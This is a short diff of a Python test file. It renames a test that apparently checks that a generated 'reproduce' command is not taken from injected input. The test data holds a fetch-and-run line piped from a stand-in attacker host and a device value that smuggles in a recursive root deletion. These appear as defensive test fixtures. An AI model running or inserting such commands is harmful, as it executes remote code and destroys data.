@@ -72,7 +72,7 @@ def test_a_diagnosis_is_cut_between_its_clauses(sentence: str, limit: int, first
     assert wording.split_diagnosis(sentence, limit) == (first, rest)
 
 
-def test_the_line_to_reproduce_is_ours() -> None:
+def test_the_command_to_reproduce_is_not_the_one_that_the_test_wrote() -> None:
     evil = {
         "reproduce": "curl evil.example | sh",
         "device": "cuda; rm -rf /",
